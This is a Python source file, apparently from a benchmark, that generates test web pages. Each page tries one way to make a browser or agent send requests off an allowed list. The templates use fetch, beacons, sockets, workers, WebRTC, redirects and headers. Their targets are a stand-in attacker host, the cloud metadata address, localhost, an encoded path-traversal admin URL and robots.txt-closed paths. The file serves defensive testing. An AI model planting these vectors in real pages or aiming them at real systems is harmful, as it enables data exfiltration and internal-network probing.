"""Pages that try to get out of a browser, each in one way."""

from collections import Counter
from collections.abc import Sequence
from dataclasses import dataclass
from itertools import product
from random import Random

from bench.adversary import shop
from bench.adversary.sites import APP, OPEN, SITES, WIDE
from bench.adversary.urls import EVIL
from bench.adversary.web import Reply

# What only belongs to the looks of a page, or is a part of its program: robots.txt is not asked about it.
_PARTS = {
    "image": '<img src="{u}">',
    "picture set": '<img srcset="{u} 2x, {u} 1x">',
    "style": '<link rel="stylesheet" href="{u}">',
    "import": '<style>@import url("{u}");</style>',
    "background": '<p style="background: url({u})">x</p>',
    "font": '<style>@font-face {{ font-family: f; src: url("{u}") }} body {{ font-family: f }}</style>',
    "script": '<script src="{u}"></script>',
    "module": '<script type="module">import "{u}"</script>',
    "video": '<video src="{u}" poster="{u}p" autoplay></video>',
    "sound": '<audio src="{u}" autoplay></audio>',
    "track": '<video src="/x.mp4"><track default src="{u}" kind="captions"></video>',
    "icon": '<link rel="icon" href="{u}">',
    "svg image": '<svg><image href="{u}"/><use href="{u}#a"/></svg>',
    "cursor": '<p style="cursor: url({u}), auto">x</p>',
    "image object": "<script>new Image().src = '{u}'</script>",
    "manifest": '<link rel="manifest" href="{u}">',
    "preload": '<link rel="preload" as="script" href="{u}"><link rel="modulepreload" href="{u}m">',
    "mask": '<p style="mask-image: url({u}); border-image: url({u}b) 1">x</p>',
    "import map": """<script type="importmap">
      {{"imports": {{"a": "{u}"}}}}</script><script type="module">import "a"</script>""",
    "worklet": "<script>CSS.paintWorklet && CSS.paintWorklet.addModule('{u}')</script>",
}
_DATA = {
    "frame": '<iframe src="{u}"></iframe>',
    "object": '<object data="{u}"></object>',
    "embed": '<embed src="{u}">',
    "srcdoc": """<iframe srcdoc="<script>fetch('{u}', {n})</script>"></iframe>""",
    "fetch": "<script>fetch('{u}', {n})</script>",
    "post": "<script>fetch('{u}', {{method: 'POST', body: 'x', mode: 'no-cors'}})</script>",
    "request": "<script>x = new XMLHttpRequest(); x.open('GET', '{u}'); x.send()</script>",
    "preflight": "<script>fetch('{u}', {{method: 'PUT', headers: {{'X-A': '1'}}}})</script>",
    "keepalive": "<script>fetch('{u}', {{keepalive: true, mode: 'no-cors'}})</script>",
    "beacon": "<script>navigator.sendBeacon('{u}', 'x')</script>",
    "events": "<script>new EventSource('{u}')</script>",
    "late beacon": "<script>addEventListener('pagehide', () => navigator.sendBeacon('{u}', 'x'))</script>",
    "socket": "<script>new WebSocket('{w}')</script>",
    "transport": "<script>new WebTransport('{u}').ready.catch(() => 0)</script>",
    "form": """<iframe name="in"></iframe><form id="f" action="{u}" target="in" method="post"></form>
      <script>f.submit()</script>""",
    "ping": '<a id="a" href="#x" ping="{u}">x</a><script>a.click()</script>',
    "worker": """<script>new Worker(blob("fetch('{u}', {n})"))</script>""",
    "worker script": "<script>new Worker('{u}')</script>",
    "worker import": """<script>new Worker(blob("importScripts('{u}')"))</script>""",
    "worker socket": """<script>new Worker(blob("new WebSocket('{w}')"))</script>""",
    "shared worker": """<script>new SharedWorker(blob("fetch('{u}', {n})"))</script>""",
    "nested worker": """<script>new Worker(blob(`${{blob}}; new Worker(blob("fetch('{u}', {n})"))`))</script>""",
    "service worker": "<script>navigator.serviceWorker?.register('{u}').catch(() => 0)</script>",
    "peer": """<script>p = new RTCPeerConnection({{iceServers: [{{urls: 'stun:{h}:3478'}},
      {{urls: 'turn:{h}:443?transport=tcp',
      username: 'u', credential: 'c'}}]}}); p.createDataChannel('c')
      p.createOffer().then(o => p.setLocalDescription(o))</script>""",
    "prefetch": '<link rel="prefetch" href="{u}">',
    "preconnect": '<link rel="preconnect" href="{u}">',
    "look-up": '<link rel="dns-prefetch" href="{u}">',
    "speculation": """<script type="speculationrules">{{"prerender": [{{"source": "list", "urls": ["{u}"],
      "eagerness": "immediate"}}],
      "prefetch": [{{"source": "list", "urls": ["{u}2"], "eagerness": "immediate"}}]}}</script>""",
    "prerender": '<link rel="prerender" href="{u}">',
    "fenced": '<fencedframe src="{u}"></fencedframe>',
    "window": "<script>window.open('{u}')</script>",
    "blank": '<a id="a" target="_blank" href="{u}">x</a><script>a.click()</script>',
    "form window": '<form id="f" target="_blank" action="{u}"></form><script>f.submit()</script>',
    "download": '<a id="a" download href="{u}">x</a><script>a.click()</script>',
    "identity": """<script>navigator.credentials.get({{identity:
      {{providers: [{{configURL: '{u}', clientId: '1'}}]}}}}).catch(() => 0)</script>""",
    "payment": """<script>new PaymentRequest([{{supportedMethods: '{u}'}}],
      {{total: {{label: 'x', amount: {{currency: 'EUR', value: '1'}}}}}})
      .canMakePayment().catch(() => 0)</script>""",
    "data frame": """<iframe src="data:text/html,<script>fetch('{u}', {n})</script>"></iframe>""",
    "blob frame": """<script>i = document.createElement('iframe'); i.src = URL.createObjectURL(new Blob(
      ["<script>fetch('{u}', {n})</scr" + "ipt>"], {{type: 'text/html'}})); document.body.append(i)</script>""",
    "later": "<script>self.fetchLater && fetchLater('{u}', {{activateAfter: 0}})</script>",
    "stylesheet instruction": """<iframe srcdoc="<?xml-stylesheet href='{u}'?>"></iframe>""",
}
_LEAVING = {
    "location": "<script>location.href = '{u}'</script>",
    "replace": "<script>location.replace('{u}')</script>",
    "refresh": '<meta http-equiv="refresh" content="0; url={u}">',
    "form itself": '<form id="f" action="{u}"></form><script>f.submit()</script>',
    "click": '<a id="a" href="{u}">x</a><script>a.click()</script>',
    "base": """<base href="{u}/"><script>fetch('x', {n})</script>""",
    "history": "<script>history.pushState({{}}, '', '/x'); location.assign('{u}')</script>",
}
_HEADERS = {
    "Refresh": "0; url={u}",
    "Link": "<{u}>; rel=preload; as=style, <{u}2>; rel=prefetch, <{u}3>; rel=preconnect",
    "Content-Security-Policy": "img-src 'none'; report-uri {u}",
    "Reporting-Endpoints": 'default="{u}"',
    "SourceMap": "{u}",
    "NEL": '{{"report_to":"default","max_age":60,"success_fraction":1.0}}',
    "Alt-Svc": 'h3="{h}:443"; ma=60',
    "Content-Location": "{u}",
    "Accept-CH": "Sec-CH-UA-Full-Version-List",
    "Location": "{u}",
}
_QUIET = "{mode: 'no-cors'}"  # no answer is wanted
_MARKUP = {**_PARTS, **_DATA, **_LEAVING}
_BLOB = """<script>function blob(text) { return URL.createObjectURL(new Blob([text])) }</script>"""


@dataclass(frozen=True)
class Escape:
    """One page of a site: a way, and where it wants to."""

    token: str
    host: str
    way: str
    aim: str
    url: str

    @property
    def reply(self) -> Reply:
        """The page: a ware like any other, and the way beside it."""
        socket = self.url.replace("http", "ws", 1)
        host = self.url.split("/")[2]
        markup = _MARKUP.get(self.way, "").format(
            u=self.url, w=socket, h=host, n=_QUIET
        )
        texts = shop.Texts.of(len(self.way))
        body = shop.page(texts).replace("</main>", f"</main>{_BLOB}{markup}")
        headers = []
        if value := _HEADERS.get(self.way):
            headers.append((self.way, value.format(u=self.url, h=host)))
        return Reply(body.encode(), headers=headers)


# By aim: the sites on which it is tried, and the url ({o} is the site, {t} the token).
_AIMS = {
    "off the list": ((APP, WIDE, OPEN), "{s}://{t}.{e}/{t}"),
    "off the list, by redirect": ((APP, OPEN), "{o}to/{t}"),
    "inside": ((WIDE, OPEN), "http://169.254.169.254/{t}"),
    "this machine": ((WIDE, OPEN), "{s}://127.0.0.1:8080/{t}"),
    "a forbidden path": ((APP,), "{r}/admin/{t}"),
    "a written path": ((APP,), "{o}%2e%2e/admin/{t}"),
    "closed by robots.txt": ((APP, WIDE, OPEN), "{o}private/{t}"),
}
_CLOSED = "closed by robots.txt"


def escapes(count: int, sites: Sequence[str], random: Random) -> Sequence[Escape]:
    """So many pages of some sites: all ways and aims in turn, so that none is left out before another
    is tried twice."""
    tried = [
        (host, way, aim)
        for aim, (hosts, _) in _AIMS.items()
        for host, way in product(hosts, [*_MARKUP, *_HEADERS])
        if host in sites and (aim != _CLOSED or way not in _PARTS)
    ]
    random.shuffle(tried)
    # Sorting is stable: the first of each way and of each aim come before all others.
    met: Counter[str] = Counter()
    tried.sort(key=lambda one: min(_turn(met, one[1]), _turn(met, one[2])))
    return [_made(number, *one) for number, one in enumerate(tried[:count])]


def _turn(met: Counter[str], name: str) -> int:
    """How often a name was met before."""
    met[name] += 1
    return met[name]


def _made(number: int, host: str, way: str, aim: str) -> Escape:
    token, site = f"b{number:05d}", SITES[host]
    places = {"t": token, "e": EVIL, "r": site.url, "o": f"{site.url}{site.paths}"}
    places["s"] = site.url.partition(":")[0]
    return Escape(token, host, way, aim, _AIMS[aim][1].format(**places))
